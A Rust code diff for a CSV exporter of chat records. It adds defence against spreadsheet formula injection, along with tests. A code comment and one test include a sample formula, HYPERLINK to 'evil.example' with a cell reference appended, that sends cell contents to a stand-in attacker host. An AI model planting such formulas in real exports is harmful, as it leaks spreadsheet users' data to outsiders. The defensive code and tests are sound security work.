@@ -1,6 +1,15 @@
 //! CSV output: one row per chat with its scalar fields and counts, or one row per message.
 //!
 //! The first column is always the chat's id, unquoted (a UUID never needs quotes).
+//!
+//! Formula injection: chat text comes from anyone on the web, and a spreadsheet evaluates a
+//! cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return
+//! (`=HYPERLINK("http://evil.example/?"&A1)`). By default every cell of text from the API
+//! (messages, names, URLs and titles, tokens, tags, sender ids, and the sales total, which
+//! holds the currency's text) that begins with one of those gets a `'` in front, as OWASP
+//! advises; the rest of the cell is kept as it was. The cells we write ourselves from typed
+//! values (ids, times, counts, booleans, type codes) are never changed: they hold no text from
+//! the API. [`CsvEncoder::raw`] writes every cell as it came.
 
 use super::Encoder;
 use giosg_model::{Chat, ChatLog, DateTime, MessageType, SenderType, Utc};
@@ -47,17 +56,29 @@ pub const LOG_COLUMNS: [&str; 10] = [
     "message",
 ];
 
+/// The characters that make a spreadsheet read a cell beginning with them as a formula
+/// (OWASP's list).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
 /// Rows per chat, or per message with `logs`.
 #[derive(Debug, Clone, Copy)]
 pub struct CsvEncoder {
     /// A row per message instead of per chat.
     logs: bool,
+    /// Text cells as they came, formulas included (`--csv-raw`).
+    raw: bool,
 }
 
 impl CsvEncoder {
-    /// A row per chat, or per message when `logs`.
+    /// A row per chat, or per message when `logs`; text cells a spreadsheet would evaluate
+    /// are neutralised.
     pub fn new(logs: bool) -> Self {
-        CsvEncoder { logs }
+        CsvEncoder { logs, raw: false }
+    }
+
+    /// The same rows with every text cell as the API sent it, when `raw` (`--csv-raw`).
+    pub fn raw(self, raw: bool) -> Self {
+        CsvEncoder { raw, ..self }
     }
 
     /// The header line, newline included.
@@ -84,17 +105,51 @@ impl Encoder for CsvEncoder {
     }
 
     fn chat(&mut self, chat: &Chat, out: &mut Vec<u8>) -> io::Result<()> {
+        let text = Text { raw: self.raw };
         if self.logs {
             write_rows(
                 out,
                 chat.logs
                     .iter()
                     .enumerate()
-                    .map(|(i, log)| log_row(chat, i, log)),
+                    .map(|(i, log)| log_row(chat, i, log, text)),
             )
         } else {
-            write_rows(out, [chat_row(chat)])
+            write_rows(out, [chat_row(chat, text)?])
         }
+    }
+}
+
+/// How a cell of text from the API is written.
+#[derive(Debug, Clone, Copy)]
+struct Text {
+    /// As it came.
+    raw: bool,
+}
+
+impl Text {
+    /// The cell of this text: neutralised unless raw.
+    fn cell(self, text: String) -> String {
+        if self.raw {
+            text
+        } else {
+            neutralised(text)
+        }
+    }
+
+    /// The cell of an optional text, empty when absent.
+    fn opt(self, text: Option<&str>) -> String {
+        self.cell(text.map_or_else(String::new, str::to_owned))
+    }
+}
+
+/// `text` with a `'` in front when a spreadsheet would evaluate it (it begins with one of
+/// [`FORMULA_STARTS`]); otherwise unchanged.
+fn neutralised(text: String) -> String {
+    if text.starts_with(FORMULA_STARTS) {
+        format!("'{text}")
+    } else {
+        text
     }
 }
 
@@ -120,13 +175,18 @@ fn time(t: Option<DateTime<Utc>>) -> String {
     t.map_or_else(String::new, |t| giosg_model::time::format(&t))
 }
 
-/// The purchased carts' totals per currency: `83.00 EUR; 12.50 SEK`.
-pub fn sales_total(chat: &Chat) -> String {
-    chat.sales_totals()
+/// The purchased carts' totals per currency: `83.00 EUR; 12.50 SEK`. Carts that total more
+/// than a decimal holds are an error naming the chat (an I/O error of kind `InvalidData` that
+/// carries the [`giosg_model::SalesOverflow`]), never a wrong figure.
+pub fn sales_total(chat: &Chat) -> io::Result<String> {
+    let totals = chat
+        .sales_totals()
+        .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
+    Ok(totals
         .iter()
         .map(|(currency, total)| format!("{total} {currency}"))
         .collect::<Vec<_>>()
-        .join("; ")
+        .join("; "))
 }
 
 /// The tags' names: `Premium; VIP & friends`.
@@ -139,8 +199,8 @@ pub fn tag_names(chat: &Chat) -> String {
 }
 
 /// The row of a chat.
-fn chat_row(chat: &Chat) -> Vec<String> {
-    vec![
+fn chat_row(chat: &Chat, text: Text) -> io::Result<Vec<String>> {
+    Ok(vec![
         chat.id.to_string(),
         time(chat.start_time),
         time(chat.end_time),
@@ -152,19 +212,19 @@ fn chat_row(chat: &Chat) -> Vec<String> {
         opt(chat.operator_message_count),
         opt(chat.visitor_message_count),
         opt(chat.message_count),
-        opt(chat.start_url.as_deref()),
-        opt(chat.start_url_title.as_deref()),
-        opt(chat.autosuggest_url.as_deref()),
-        opt(chat.autosuggest_url_title.as_deref()),
-        opt(chat.token.as_deref()),
-        tag_names(chat),
-        sales_total(chat),
+        text.opt(chat.start_url.as_deref()),
+        text.opt(chat.start_url_title.as_deref()),
+        text.opt(chat.autosuggest_url.as_deref()),
+        text.opt(chat.autosuggest_url_title.as_deref()),
+        text.opt(chat.token.as_deref()),
+        text.cell(tag_names(chat)),
+        text.cell(sales_total(chat)?),
         chat.has_sales().to_string(),
         chat.logs.len().to_string(),
         chat.tags.len().to_string(),
         chat.api_data.len().to_string(),
         chat.shopping_carts.len().to_string(),
-    ]
+    ])
 }
 
 /// `operator`, `visitor`, or an unknown code as a number.
@@ -189,7 +249,7 @@ fn message_type(t: Option<MessageType>) -> String {
 }
 
 /// The row of one message of a chat.
-fn log_row(chat: &Chat, index: usize, log: &ChatLog) -> Vec<String> {
+fn log_row(chat: &Chat, index: usize, log: &ChatLog, text: Text) -> Vec<String> {
     vec![
         chat.id.to_string(),
         time(chat.start_time),
@@ -197,10 +257,10 @@ fn log_row(chat: &Chat, index: usize, log: &ChatLog) -> Vec<String> {
         index.to_string(),
         time(log.created_at),
         sender(log.sender_type),
-        opt(log.sender_id.as_deref()),
+        text.opt(log.sender_id.as_deref()),
         message_type(log.message_type),
-        opt(log.display_name.as_deref()),
-        opt(log.message.as_deref()),
+        text.opt(log.display_name.as_deref()),
+        text.opt(log.message.as_deref()),
     ]
 }
 
@@ -222,6 +282,50 @@ mod tests {
         assert!(
             text.ends_with(",\"two\nlines, \"\"quoted\"\"\"\n"),
             "{text}"
+        );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_get_a_quote_in_front() {
+        for (cell, expected) in [
+            ("=1+1", "'=1+1"),
+            ("+1", "'+1"),
+            ("-5.00 EUR", "'-5.00 EUR"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("plain = text", "plain = text"),
+            ("'quoted", "'quoted"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralised(cell.to_owned()), expected, "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn raw_rows_keep_formulas_and_typed_cells_are_never_changed() {
+        let mut chat = Chat::new(Uuid::from_u128(1));
+        let mut log = ChatLog::new();
+        log.message = Some("=HYPERLINK(\"http://evil.example\")".to_owned());
+        log.sender_type = Some(SenderType::from(-3));
+        chat.logs.push(log);
+        let row = |raw: bool| {
+            let mut out = Vec::new();
+            CsvEncoder::new(true)
+                .raw(raw)
+                .chat(&chat, &mut out)
+                .unwrap();
+            String::from_utf8(out).unwrap()
+        };
+        let neutral = row(false);
+        assert!(
+            neutral.ends_with(",-3,,,,\"'=HYPERLINK(\"\"http://evil.example\"\")\"\n"),
+            "{neutral}"
+        );
+        let raw = row(true);
+        assert!(
+            raw.ends_with(",-3,,,,\"=HYPERLINK(\"\"http://evil.example\"\")\"\n"),
+            "{raw}"
         );
     }
 
